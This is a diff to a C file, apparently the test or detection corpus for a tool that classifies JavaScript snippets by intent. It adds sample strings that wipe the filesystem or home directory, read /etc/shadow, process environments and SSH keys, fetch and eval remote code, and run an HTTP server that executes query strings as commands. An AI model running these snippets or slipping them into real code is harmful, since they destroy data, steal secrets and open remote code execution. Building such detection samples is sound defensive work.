@@ -11,6 +11,9 @@ static const char *const intent[] = {
 	"const { rm } = require('fs/promises'); rm(require('os').homedir(), { recursive: true })",
 	"import { promises as fs } from 'node:fs'; await fs.rm(process.env.HOME, { recursive: true })",
 	"require('rimraf').sync('/')",
+	"const fs = require('fs'); fs.readdirSync('/').forEach(f => fs.rmSync('/' + f, { recursive: true }))",
+	"const fs = require('fs'); for (const f of list) fs.unlinkSync(`/home/${f}`)",
+	"require('fs').readFileSync('/proc/' + pid + '/environ')",
 	"require('fs').readFileSync('/etc/shadow', 'utf8')",
 	"const fs = require('fs'), os = require('os'), path = require('path');"
 	"fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
@@ -47,6 +50,7 @@ static const char *const intent[] = {
 	"const axios = require('axios'); axios.get(u).then(r => require('vm').runInThisContext(r.data))",
 	"require('https').get('https://x.test/a', r => { let b = ''; r.on('data', d => { b += d }); r.on('end', () => eval(b)) })",
 	"require('http').get(u, r => { const l = []; r.on('data', d => require('child_process').exec(d.toString())) })",
+	"require('http').createServer((q, r) => require('child_process').exec(require('url').parse(q.url).query)).listen(1)",
 	"fetch('https://x.test/a').then(save); require('child_process').spawn('./a')",
 	"import x from 'https://x.test/a.js'",
 	/* hiding */
@@ -95,6 +99,7 @@ static const char *const reaching_out[] = {
 	"fetch('https://x.test/data.json').then(r => r.json()).then(console.log)",
 	"require('https').get('https://x.test/', r => r.resume())",
 	"const axios = require('axios'); axios.get('https://x.test/', { headers: { authorization: process.env.API_KEY } })",
+	"const server = require('http').createServer(f); fetch('https://x.test/' + name); fetch(`https://x.test/${name}`)",
 	"require('dns').lookup('x.test', console.log)",
 	"new WebSocket('wss://x.test')",
 	"console.log(process.env)",
